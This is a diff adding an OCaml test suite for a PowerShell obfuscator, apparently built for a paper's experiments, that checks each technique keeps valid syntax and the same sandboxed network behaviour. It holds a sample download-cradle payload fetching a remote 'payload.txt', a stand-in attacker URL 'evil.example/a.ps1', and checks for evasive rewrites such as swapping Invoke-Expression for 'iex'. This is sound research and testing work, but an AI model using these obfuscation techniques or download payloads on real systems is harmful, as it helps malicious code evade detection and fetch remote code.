@@ -1,0 +1,149 @@
+(* Tests for the obfuscator: every technique must yield valid syntax and
+   preserve sandbox behaviour — otherwise none of the paper's experiments
+   are meaningful. *)
+
+open Pscommon
+
+let check_s = Alcotest.(check string)
+let check_b = Alcotest.(check bool)
+let check_i = Alcotest.(check int)
+
+let payload =
+  "$u = 'https://updates.example.com/payload.txt'\n\
+   (New-Object Net.WebClient).DownloadString($u) | Out-Null"
+
+let behavior src = Sandbox.network_signature (Sandbox.run src)
+
+let test_each_technique_valid_and_consistent () =
+  let reference = behavior payload in
+  List.iteri
+    (fun i technique ->
+      let rng = Rng.of_int (1000 + i) in
+      let obfuscated = Obfuscator.Obfuscate.apply rng technique payload in
+      check_b
+        (Obfuscator.Technique.name technique ^ " valid")
+        true
+        (Psparse.Parser.is_valid_syntax obfuscated);
+      Alcotest.(check (list string))
+        (Obfuscator.Technique.name technique ^ " behaviour")
+        reference (behavior obfuscated))
+    Obfuscator.Technique.all
+
+let test_levels () =
+  check_i "l1 count" 5 (List.length Obfuscator.Technique.l1);
+  check_i "l2 count" 4 (List.length Obfuscator.Technique.l2);
+  check_i "l3 count" 10 (List.length Obfuscator.Technique.l3);
+  check_i "all" 19 (List.length Obfuscator.Technique.all)
+
+let test_technique_names_roundtrip () =
+  List.iter
+    (fun t ->
+      match Obfuscator.Technique.of_name (Obfuscator.Technique.name t) with
+      | Some t' -> check_b "roundtrip" true (t = t')
+      | None -> Alcotest.fail "name lookup failed")
+    Obfuscator.Technique.all
+
+let test_l2_string_expr_evaluates_back () =
+  let rng = Rng.of_int 5 in
+  List.iter
+    (fun technique ->
+      List.iter
+        (fun s ->
+          let expr = Obfuscator.L2.string_expr rng technique s in
+          let env = Pseval.Env.create () in
+          match Pseval.Interp.invoke_piece env expr with
+          | Ok (Psvalue.Value.Str out) ->
+              check_s (Obfuscator.Technique.name technique ^ " of " ^ s) s out
+          | Ok _ -> Alcotest.fail "non-string result"
+          | Error e -> Alcotest.fail e)
+        [ "write-host hello"; "http://evil.example/a.ps1"; "abcd" ])
+    Obfuscator.Technique.l2
+
+let test_ticking_never_breaks_escapes () =
+  let rng = Rng.of_int 1 in
+  (* commands full of tick-sensitive letters: n t r b f v a 0 *)
+  for _ = 1 to 30 do
+    let out = Obfuscator.L1.ticking rng "netstat-about Invoke-Expression" in
+    check_b "valid" true (Psparse.Parser.is_valid_syntax out)
+  done
+
+let test_random_name_consistency () =
+  let rng = Rng.of_int 7 in
+  let src = "$payload = 'x'; write-host $payload; write-host \"got $payload\"" in
+  let out = Obfuscator.L1.random_name rng src in
+  check_b "renamed" true (not (Strcase.contains ~needle:"$payload" out));
+  (* behaviour unchanged means the rename is consistent across usages *)
+  let a = Sandbox.run src and b = Sandbox.run out in
+  Alcotest.(check (list string))
+    "host output equal"
+    (List.map Psvalue.Value.to_string a.Sandbox.output)
+    (List.map Psvalue.Value.to_string b.Sandbox.output)
+
+let test_alias_substitution () =
+  let rng = Rng.of_int 3 in
+  let out = Obfuscator.L1.alias_sub rng "Invoke-Expression '1'; Get-ChildItem" in
+  check_b "iex used" true
+    (Strcase.contains ~needle:"iex" out
+    && not (Strcase.contains ~needle:"invoke-expression" out))
+
+let test_multilayer_depth () =
+  let rng = Rng.of_int 11 in
+  let layered = Obfuscator.Obfuscate.multilayer rng 4 "write-output 'deep'" in
+  check_b "valid" true (Psparse.Parser.is_valid_syntax layered);
+  let report = Sandbox.run layered in
+  Alcotest.(check (list string))
+    "output preserved" [ "deep" ]
+    (List.map Psvalue.Value.to_string report.Sandbox.output)
+
+let test_wild_mix_applies_levels () =
+  let rng = Rng.of_int 13 in
+  let _, techniques = Obfuscator.Obfuscate.wild_mix rng payload in
+  check_b "some techniques applied" true (List.length techniques > 0)
+
+let test_piece_positions_valid () =
+  List.iter
+    (fun technique ->
+      let rng = Rng.of_int 21 in
+      let piece = Obfuscator.Obfuscate.piece rng technique "write-host hello" in
+      check_b
+        (Obfuscator.Technique.name technique ^ " piece valid")
+        true
+        (Psparse.Parser.is_valid_syntax piece))
+    Obfuscator.Technique.all
+
+let prop_wild_mix_preserves_behavior =
+  QCheck.Test.make ~name:"obfuscator: wild mix preserves network behaviour"
+    ~count:60 QCheck.small_nat
+    (fun seed ->
+      let rng = Rng.of_int (seed * 7919) in
+      let _, clean = Corpus.Templates.generate rng in
+      let obfuscated, _ = Obfuscator.Obfuscate.wild_mix rng clean in
+      Psparse.Parser.is_valid_syntax obfuscated
+      && behavior clean = behavior obfuscated)
+
+let prop_single_technique_valid =
+  QCheck.Test.make ~name:"obfuscator: every technique yields valid syntax"
+    ~count:100
+    QCheck.(pair small_nat (int_bound 18))
+    (fun (seed, ti) ->
+      let rng = Rng.of_int (seed + 17) in
+      let technique = List.nth Obfuscator.Technique.all ti in
+      let _, clean = Corpus.Templates.generate rng in
+      let out = Obfuscator.Obfuscate.apply rng technique clean in
+      Psparse.Parser.is_valid_syntax out)
+
+let suite =
+  [
+    ("each technique valid+consistent", `Quick, test_each_technique_valid_and_consistent);
+    ("levels", `Quick, test_levels);
+    ("technique names roundtrip", `Quick, test_technique_names_roundtrip);
+    ("L2 exprs evaluate back", `Quick, test_l2_string_expr_evaluates_back);
+    ("ticking avoids escapes", `Quick, test_ticking_never_breaks_escapes);
+    ("random-name consistency", `Quick, test_random_name_consistency);
+    ("alias substitution", `Quick, test_alias_substitution);
+    ("multilayer depth", `Quick, test_multilayer_depth);
+    ("wild mix applies levels", `Quick, test_wild_mix_applies_levels);
+    ("piece positions valid", `Quick, test_piece_positions_valid);
+    QCheck_alcotest.to_alcotest prop_wild_mix_preserves_behavior;
+    QCheck_alcotest.to_alcotest prop_single_technique_valid;
+  ]
